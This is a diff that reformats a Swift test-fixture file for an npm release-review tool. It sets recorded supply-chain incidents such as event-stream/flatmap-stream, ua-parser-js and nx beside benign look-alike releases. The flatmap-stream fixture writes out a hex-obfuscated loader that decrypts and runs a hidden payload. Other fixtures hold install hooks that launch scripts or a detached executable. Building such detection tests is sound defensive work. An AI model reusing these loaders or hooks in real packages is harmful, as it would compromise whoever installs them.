@@ -20,17 +20,22 @@ struct Incident: CustomTestStringConvertible, Sendable {
 
     static func eventStream(after335: Bool) -> ReleaseUnderReview {
         var history = (0..<40).map { number in
-            PastRelease.sample("3.\(number / 10).\(number % 10)", "201\(2 + number / 10)-0\(1 + number % 9)-10T10:00:00Z", by: "dominictarr", maintainers: ["dominictarr"]) {
+            PastRelease.sample(
+                "3.\(number / 10).\(number % 10)", "201\(2 + number / 10)-0\(1 + number % 9)-10T10:00:00Z", by: "dominictarr",
+                maintainers: ["dominictarr"]
+            ) {
                 $0.dependencies = ["through": "~2.3.1", "duplexer": "~0.1.1", "from": "~0", "map-stream": "~0.1.0"]
             }
         }
-        history.append(.sample("3.3.4", "2016-07-16T10:00:00Z", by: "dominictarr", maintainers: ["dominictarr"]) {
-            $0.dependencies = ["through": "~2.3.1", "duplexer": "~0.1.1", "from": "~0", "map-stream": "~0.1.0"]
-        })
-        if after335 {
-            history.append(.sample("3.3.5", "2018-09-05T02:00:00Z", by: "right9ctrl", maintainers: ["dominictarr", "right9ctrl"]) {
+        history.append(
+            .sample("3.3.4", "2016-07-16T10:00:00Z", by: "dominictarr", maintainers: ["dominictarr"]) {
                 $0.dependencies = ["through": "~2.3.1", "duplexer": "~0.1.1", "from": "~0", "map-stream": "~0.1.0"]
             })
+        if after335 {
+            history.append(
+                .sample("3.3.5", "2018-09-05T02:00:00Z", by: "right9ctrl", maintainers: ["dominictarr", "right9ctrl"]) {
+                    $0.dependencies = ["through": "~2.3.1", "duplexer": "~0.1.1", "from": "~0", "map-stream": "~0.1.0"]
+                })
         }
         return .sampleEvent(
             version: "3.3.6", by: "right9ctrl", at: "2018-09-09T08:00:00Z",
@@ -38,7 +43,8 @@ struct Incident: CustomTestStringConvertible, Sendable {
             maintainers: ["dominictarr", "right9ctrl"]
         ) {
             $0.newDependencies["flatmap-stream"] = DependencyBackground(
-                name: "flatmap-stream", created: Timestamp("2018-08-05T00:00:00Z"), releaseCount: 1, maintainers: ["hugeglass"], knownDependents: 0)
+                name: "flatmap-stream", created: Timestamp("2018-08-05T00:00:00Z"), releaseCount: 1, maintainers: ["hugeglass"],
+                knownDependents: 0)
         }
     }
 
@@ -48,14 +54,19 @@ struct Incident: CustomTestStringConvertible, Sendable {
             "var r=process,t=r.env,d=require('./test/data'),c=require('crypto').createDecipher('aes256',t.npm_package_description),s=c.update(d[0],'hex','utf8');s+=c.final('utf8');var m=new module.constructor;m.paths=module.paths;m._compile(s,'')"
         let hidden =
             "var r=process,t=r.env;function e(r){return Buffer.from(r,'hex').toString()}var n=require(e('2e2f746573742f64617461')),u=t[e('6e706d5f7061636b6167655f6465736372697074696f6e')];if(!u)return;var f=require(e('63727970746f'))[e('637265617465446563697068657200')](e('616573323536'),u),a=f.update(n[0],'hex','utf8');a+=f.final('utf8');var i=new module.constructor;i.paths=module.paths,i[e('5f636f6d70696c65')](a,'')"
-                .replacing("637265617465446563697068657200", with: "6372656174654465636970686572")
+            .replacing("637265617465446563697068657200", with: "6372656174654465636970686572")
         let manifest = #"{"name":"flatmap-stream","version":"0.1.1","main":"index.min.js","dependencies":{}}"#
         var release = ReleaseUnderReview.sample(
             [
                 "package.json": manifest, "index.js": honest,
-                "index.min.js": "module.exports=function(r){return through(function(t){this.queue(r(t))})};!function(){try{\(disguised ? hidden : plain)}catch(r){}}();",
+                "index.min.js":
+                    "module.exports=function(r){return through(function(t){this.queue(r(t))})};!function(){try{\(disguised ? hidden : plain)}catch(r){}}();",
                 "test/data.js": "module.exports=[\"\(hexText(2400))\",\"\(hexText(1600))\"];",
-            ], version: "0.1.1", previous: ["package.json": manifest.replacing("0.1.1", with: "0.1.0"), "index.js": honest, "index.min.js": "module.exports=function(r){}"])
+            ], version: "0.1.1",
+            previous: [
+                "package.json": manifest.replacing("0.1.1", with: "0.1.0"), "index.js": honest,
+                "index.min.js": "module.exports=function(r){}",
+            ])
         var history = PackageHistory(name: "flatmap-stream")
         history.releases = [.sample("0.1.0", "2018-08-05T00:00:00Z", by: "hugeglass", maintainers: ["hugeglass"])]
         release.history = history
@@ -121,11 +132,14 @@ struct Incident: CustomTestStringConvertible, Sendable {
             ])),
         Incident(
             "ua-parser-js: shell and batch file that fetch a program, first line",
-            takenOver(shellFiles.merging(["package.json": script("preinstall", "start /B node preinstall.js & node preinstall.js")]) { $1 })),
+            takenOver(shellFiles.merging(["package.json": script("preinstall", "start /B node preinstall.js & node preinstall.js")]) { $1 })
+        ),
         Incident(
             "ua-parser-js: the third line within the hour",
             takenOver(
-                shellFiles.merging(["package.json": script("preinstall", "start /B node preinstall.js & node preinstall.js", version: "2.0.0")]) { $1 },
+                shellFiles.merging([
+                    "package.json": script("preinstall", "start /B node preinstall.js & node preinstall.js", version: "2.0.0")
+                ]) { $1 },
                 version: "2.0.0", after: [.sample("0.8.0", "2021-06-01T11:30:00Z"), .sample("1.4.0", "2021-06-01T11:45:00Z")])),
         Incident(
             "nx: keys, wallets and start-up files",
@@ -186,7 +200,9 @@ struct Incident: CustomTestStringConvertible, Sendable {
         Incident(
             "bb-builder: starts a Windows program",
             {
-                var release = made("bb-like", "1.0.0", #""postinstall":"node run.js""#, ["run.js": "require('child_process').spawn('./lib/helper.exe',{detached:true})"])
+                var release = made(
+                    "bb-like", "1.0.0", #""postinstall":"node run.js""#,
+                    ["run.js": "require('child_process').spawn('./lib/helper.exe',{detached:true})"])
                 var head = [UInt8](repeating: 0, count: 256)
                 (head[0], head[1], head[60], head[64], head[65]) = (0x4D, 0x5A, 64, 0x50, 0x45)
                 release.content = .sample(
@@ -210,7 +226,9 @@ struct Incident: CustomTestStringConvertible, Sendable {
         Incident(
             "a new maintainer whose first release changes documentation",
             {
-                var release = takenOver(["package.json": #"{"name":"sample","version":"1.4.0"}"#, "index.js": "module.exports = 1", "README.md": "New words."])
+                var release = takenOver([
+                    "package.json": #"{"name":"sample","version":"1.4.0"}"#, "index.js": "module.exports = 1", "README.md": "New words.",
+                ])
                 release.published?.publisher = Person(name: "bob")
                 release.published?.maintainers = [Person(name: "ann"), Person(name: "bob")]
                 release.published?.publishedAt = Timestamp("2023-06-01T12:00:00Z")
@@ -235,23 +253,44 @@ struct Incident: CustomTestStringConvertible, Sendable {
             "a rewrite to TypeScript with a new build",
             takenOver(
                 [
-                    "package.json": #"{"name":"sample","version":"2.0.0","main":"dist/index.js","types":"dist/index.d.ts","scripts":{"build":"tsc","prepublishOnly":"npm run build"}}"#,
-                    "dist/index.js": "\"use strict\";\nObject.defineProperty(exports, '__esModule', { value: true });\nexports.one = 1;\n", "dist/index.d.ts": "export declare const one = 1;\n",
+                    "package.json":
+                        #"{"name":"sample","version":"2.0.0","main":"dist/index.js","types":"dist/index.d.ts","scripts":{"build":"tsc","prepublishOnly":"npm run build"}}"#,
+                    "dist/index.js": "\"use strict\";\nObject.defineProperty(exports, '__esModule', { value: true });\nexports.one = 1;\n",
+                    "dist/index.d.ts": "export declare const one = 1;\n",
                     "dist/index.js.map": #"{"version":3,"mappings":"AAAA,OAAO"}"#,
                 ], version: "2.0.0")),
         Incident(
-            "a bundler that uses new Function", takenOver(["package.json": #"{"name":"sample","version":"1.4.0"}"#, "index.js": "module.exports = src => new Function('require', src)(require)"])),
+            "a bundler that uses new Function",
+            takenOver([
+                "package.json": #"{"name":"sample","version":"1.4.0"}"#,
+                "index.js": "module.exports = src => new Function('require', src)(require)",
+            ])),
         Incident(
             "a command-line tool that starts git",
-            takenOver(["package.json": #"{"name":"sample","version":"1.4.0","bin":{"sample":"cli.js"}}"#, "index.js": "1", "cli.js": "#!/usr/bin/env node\nrequire('child_process').execFileSync('git',['status'],{env:process.env})"])),
+            takenOver([
+                "package.json": #"{"name":"sample","version":"1.4.0","bin":{"sample":"cli.js"}}"#, "index.js": "1",
+                "cli.js": "#!/usr/bin/env node\nrequire('child_process').execFileSync('git',['status'],{env:process.env})",
+            ])),
         Incident(
             "an analytics library that sends what it says it sends",
-            takenOver(["package.json": #"{"name":"sample","version":"1.4.0"}"#, "index.js": "export const track = e => navigator.sendBeacon('https://stats.example/e', JSON.stringify(e)); export const id = () => fetch('https://stats.example/id')"])),
+            takenOver([
+                "package.json": #"{"name":"sample","version":"1.4.0"}"#,
+                "index.js":
+                    "export const track = e => navigator.sendBeacon('https://stats.example/e', JSON.stringify(e)); export const id = () => fetch('https://stats.example/id')",
+            ])),
         Incident(
             "is-promise 2.2.0: a wrong exports map",
-            takenOver(["package.json": #"{"name":"sample","version":"1.4.0","exports":{"import":"index.mjs"}}"#, "index.js": "1", "index.mjs": "export default 1"])),
+            takenOver([
+                "package.json": #"{"name":"sample","version":"1.4.0","exports":{"import":"index.mjs"}}"#, "index.js": "1",
+                "index.mjs": "export default 1",
+            ])),
         Incident(
             "a package that builds with node-gyp from now on",
-            takenOver(["package.json": #"{"name":"sample","version":"1.4.0"}"#, "index.js": "1", "binding.gyp": #"{"targets":[{"target_name":"a","sources":["a.cc"],"include_dirs":["<!(node -p \"require('node-addon-api').include\")"]}]}"#, "a.cc": "int a;"])),
+            takenOver([
+                "package.json": #"{"name":"sample","version":"1.4.0"}"#, "index.js": "1",
+                "binding.gyp":
+                    #"{"targets":[{"target_name":"a","sources":["a.cc"],"include_dirs":["<!(node -p \"require('node-addon-api').include\")"]}]}"#,
+                "a.cc": "int a;",
+            ])),
     ]
 }
